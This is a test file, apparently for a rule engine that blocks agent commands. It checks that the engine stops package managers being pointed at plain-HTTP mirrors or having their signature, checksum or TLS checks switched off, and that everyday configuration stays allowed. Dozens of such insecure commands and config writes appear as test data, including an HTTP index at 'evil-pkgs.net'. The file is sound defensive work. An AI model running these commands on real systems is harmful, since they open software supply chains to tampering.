import { describe, it } from 'vitest';
import { sharedEngine } from './helpers.ts';
import { familyAssertions, fileWrite, inProject, ruleAssertions } from './rule-assertions.ts';

/**
 * The act (p29, actsB): a package manager's source moved to plain HTTP on
 * another host, or its signature, checksum or TLS checks switched off, by any
 * tool (npm, yarn, pnpm, bun, pip, uv, poetry, conda, go, cargo, gem,
 * bundler, nuget, maven, gradle, composer, apt, yum/dnf, apk, brew, helm) and
 * in any place (command flags, environment variables, config files,
 * lockfiles, sed on a sources list). Writings enumerated before the rules
 * were written; everyday look-alikes: the company's mirror over HTTPS, scoped
 * registries, reading the configuration, pinned versions, a local registry,
 * the vendors' documented apt sources.
 */
const engine = await sharedEngine();
const { each, quiet } = familyAssertions(engine);
const { stopped, allowed } = ruleAssertions(engine);

describe('package sources and their checks', () => {
  it('every enumerated writing is stopped', () => {
    for (const c of [
      "npm config set registry http://registry.npm-mirror.example.net/",
      "npm config set strict-ssl false",
      "npm install --registry=http://10.0.0.5:4873 lodash",
      "yarn config set registry http://npm.example-cdn.net",
      "yarn config set strict-ssl false",
      "pnpm config set registry http://npm.fastmirror.io/",
      "echo \"registry=http://npm.fastmirror.io/\" >> ~/.npmrc",
      "bun install --registry http://npm.fastmirror.io",
      "pip config set global.index-url http://pypi.fastmirror.io/simple",
      "pip install --index-url http://pypi.mirror.example.net/simple --trusted-host pypi.mirror.example.net requests",
      "pip install --extra-index-url https://pypi.acme-packages.net/simple acme-utils",
      "pip install --trusted-host pypi.org --trusted-host files.pythonhosted.org -r requirements.txt",
      "export PIP_INDEX_URL=http://pypi.fastmirror.io/simple",
      "export PIP_TRUSTED_HOST=pypi.fastmirror.io",
      "uv pip install --index-url http://pypi.fastmirror.io/simple flask",
      "export UV_INDEX_URL=http://pypi.fastmirror.io/simple",
      "uv add --allow-insecure-host pypi.fastmirror.io requests",
      "poetry source add --priority=primary fast http://pypi.fastmirror.io/simple",
      "poetry config certificates.fast.cert false",
      "conda config --set ssl_verify false",
      "conda config --add channels http://conda.fastmirror.io/main",
      "go env -w GOPROXY=http://goproxy.fastmirror.io,direct",
      "go env -w GOSUMDB=off",
      "go env -w GONOSUMDB=* GOINSECURE=*",
      "export GOFLAGS=-insecure",
      "export GOPROXY=direct GOSUMDB=off",
      "cargo install --index sparse+http://crates.fastmirror.io/ ripgrep",
      "gem sources --add http://gems.fastmirror.io/ --remove https://rubygems.org/",
      "bundle config set mirror.https://rubygems.org http://gems.fastmirror.io",
      "gem install rails --source http://gems.fastmirror.io",
      "nuget sources add -Name fast -Source http://nuget.fastmirror.io/v3/index.json",
      "dotnet nuget add source http://nuget.fastmirror.io/v3/index.json -n fast",
      "composer config repo.packagist composer http://packagist.fastmirror.io",
      "composer config secure-http false",
      "composer config -g disable-tls true",
      "echo \"deb [trusted=yes] http://apt.fastmirror.io/ubuntu jammy main\" | sudo tee /etc/apt/sources.list.d/fast.list",
      "sudo sed -i 's|https://deb.debian.org|http://deb.fastmirror.io|g' /etc/apt/sources.list",
      "echo 'Acquire::https::Verify-Peer \"false\";' | sudo tee /etc/apt/apt.conf.d/99insecure",
      "sudo yum-config-manager --add-repo http://rpm.fastmirror.io/fast.repo",
      "sudo sed -i 's/gpgcheck=1/gpgcheck=0/' /etc/yum.repos.d/epel.repo",
      "echo \"sslverify=false\" | sudo tee -a /etc/dnf/dnf.conf",
      "apk add --allow-untrusted ./pkg.apk",
      "echo \"http://apk.fastmirror.io/alpine/v3.19/main\" >> /etc/apk/repositories",
      "brew tap fast/tools http://git.fastmirror.io/homebrew-tools.git",
      "export HOMEBREW_BOTTLE_DOMAIN=http://bottles.fastmirror.io",
      "helm repo add fast http://charts.fastmirror.io",
      "helm install app ./chart --insecure-skip-tls-verify",
      "git config --global http.sslVerify false",
      "export NODE_TLS_REJECT_UNAUTHORIZED=0",
      "export PYTHONHTTPSVERIFY=0",
      "mvn -Dmaven.wagon.http.ssl.insecure=true -Dmaven.wagon.http.ssl.allowall=true install",
      "gradle build -Dorg.gradle.internal.publish.checksums.insecure=true",
      "sed -i 's#https://registry.yarnpkg.com#http://npm.fastmirror.io#g' yarn.lock",
      "npm install --no-package-lock --ignore-scripts=false --no-audit --integrity=false",
      "pip download --no-deps --trusted-host evil-pkgs.net --index-url http://evil-pkgs.net/simple pkg",
    ]) stopped(inProject(c));
    for (const c of [
      fileWrite("/home/dev/.npmrc", "registry=http://npm.fastmirror.io/\nstrict-ssl=false\n"),
      fileWrite("/home/dev/.config/pip/pip.conf", "[global]\nindex-url = http://pypi.fastmirror.io/simple\ntrusted-host = pypi.fastmirror.io\n"),
      fileWrite("/home/dev/.cargo/config.toml", "[source.crates-io]\nreplace-with = \"fast\"\n\n[source.fast]\nregistry = \"sparse+http://crates.fastmirror.io/\"\n"),
      fileWrite("/home/dev/.m2/settings.xml", "<settings><mirrors><mirror><id>fast</id><mirrorOf>*</mirrorOf><url>http://maven.fastmirror.io/repo</url></mirror></mirrors></settings>"),
      fileWrite("NuGet.Config", "<configuration><packageSources><clear /><add key=\"fast\" value=\"http://nuget.fastmirror.io/v3/index.json\" allowInsecureConnections=\"true\" /></packageSources></configuration>"),
      fileWrite("/etc/apt/sources.list.d/fast.list", "deb [trusted=yes] http://apt.fastmirror.io/debian bookworm main\n"),
      fileWrite(".yarnrc.yml", "npmRegistryServer: \"http://npm.fastmirror.io\"\nenableStrictSsl: false\n"),
      fileWrite("build.gradle", "repositories {\n  maven { url 'http://maven.fastmirror.io/repo'; allowInsecureProtocol = true }\n}\n"),
      fileWrite("pyproject.toml", "[[tool.poetry.source]]\nname = \"fast\"\nurl = \"http://pypi.fastmirror.io/simple\"\npriority = \"primary\"\n"),
      fileWrite("package-lock.json", "{\"packages\":{\"node_modules/lodash\":{\"version\":\"4.17.21\",\"resolved\":\"http://npm.fastmirror.io/lodash/-/lodash-4.17.21.tgz\",\"integrity\":\"sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg==\"}}}"),
    ]) stopped(c);
  });

  it('the new rules read the forms the others did not', () => {
    each('package-source-plain-http', 'stopped', [
      'export PIP_INDEX_URL=http://pypi.fastmirror.io/simple',
      'export UV_INDEX_URL=http://pypi.fastmirror.io/simple',
      'poetry source add --priority=primary fast http://pypi.fastmirror.io/simple',
      'conda config --add channels http://conda.fastmirror.io/main',
      'gem sources --add http://gems.fastmirror.io/ --remove https://rubygems.org/',
      'bundle config set mirror.https://rubygems.org http://gems.fastmirror.io',
      'composer config repo.packagist composer http://packagist.fastmirror.io',
      'sudo yum-config-manager --add-repo http://rpm.fastmirror.io/fast.repo',
      'export HOMEBREW_BOTTLE_DOMAIN=http://bottles.fastmirror.io',
    ]);
    each('package-source-plain-http-in-file', 'stopped', [
      fileWrite('pyproject.toml', '[[tool.poetry.source]]\nname = "fast"\nurl = "http://pypi.fastmirror.io/simple"\npriority = "primary"\n'),
      "sed -i 's#https://registry.yarnpkg.com#http://npm.fastmirror.io#g' yarn.lock",
      "sudo sed -i 's|https://deb.debian.org|http://deb.fastmirror.io|g' /etc/apt/sources.list",
      'echo "http://apk.fastmirror.io/alpine/v3.19/main" >> /etc/apk/repositories',
    ]);
    each('package-check-switched-off-any-tool', 'stopped', [
      'export PIP_TRUSTED_HOST=pypi.fastmirror.io',
      'uv add --allow-insecure-host pypi.fastmirror.io requests',
      'poetry config certificates.fast.cert false',
      'composer config secure-http false',
      'composer config -g disable-tls true',
      "sudo sed -i 's/gpgcheck=1/gpgcheck=0/' /etc/yum.repos.d/epel.repo",
      'echo "sslverify=false" | sudo tee -a /etc/dnf/dnf.conf',
      'apk add --allow-untrusted ./pkg.apk',
      'helm install app ./chart --insecure-skip-tls-verify',
      'gradle build -Dorg.gradle.internal.publish.checksums.insecure=true',
      'mvn -Dmaven.wagon.http.ssl.insecure=true -Dmaven.wagon.http.ssl.allowall=true install',
    ]);
    quiet('package-check-switched-off-any-tool', ["sudo sed -i 's/gpgcheck=0/gpgcheck=1/' /etc/yum.repos.d/epel.repo"]);
  });

  it('everyday configuration stays allowed', () => {
    for (const c of [
      "npm config get registry",
      "npm config set @acme:registry https://npm.pkg.github.com",
      "npm config set registry https://registry.npmjs.org/",
      "pip config list",
      "pip install --index-url https://artifactory.acme.io/api/pypi/pypi/simple requests",
      "pip install requests==2.31.0",
      "uv pip install -r requirements.txt",
      "go env GOPROXY",
      "go env -w GOPRIVATE=github.com/acme/*",
      "go env -w GOPROXY=https://proxy.golang.org,direct",
      "cargo add serde@1.0",
      "gem sources --list",
      "bundle config set path vendor/bundle",
      "dotnet nuget add source https://pkgs.dev.azure.com/acme/_packaging/feed/nuget/v3/index.json -n acme",
      "composer config repositories.acme composer https://packages.acme.io",
      "helm repo add bitnami https://charts.bitnami.com/bitnami",
      "conda config --add channels conda-forge",
      "echo \"deb [signed-by=/usr/share/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu jammy stable\" | sudo tee /etc/apt/sources.list.d/docker.list",
      "yarn config get registry",
      "npm install --registry=http://localhost:4873 my-local-pkg",
      "poetry source add --priority=supplemental acme https://pypi.acme.io/simple",
      'echo "deb http://deb.debian.org/debian bookworm-backports main" | sudo tee /etc/apt/sources.list.d/backports.list',
    ]) allowed(inProject(c));
    for (const c of [
      fileWrite(".npmrc", "@acme:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=${NPM_TOKEN}\n"),
      fileWrite("pyproject.toml", "[[tool.poetry.source]]\nname = \"acme\"\nurl = \"https://pypi.acme.io/simple\"\npriority = \"supplemental\"\n"),
    ]) allowed(c);
    quiet('package-source-plain-http', ['npm install --registry=http://localhost:4873 my-local-pkg', 'poetry source add --priority=supplemental acme https://pypi.acme.io/simple']);
  });
});
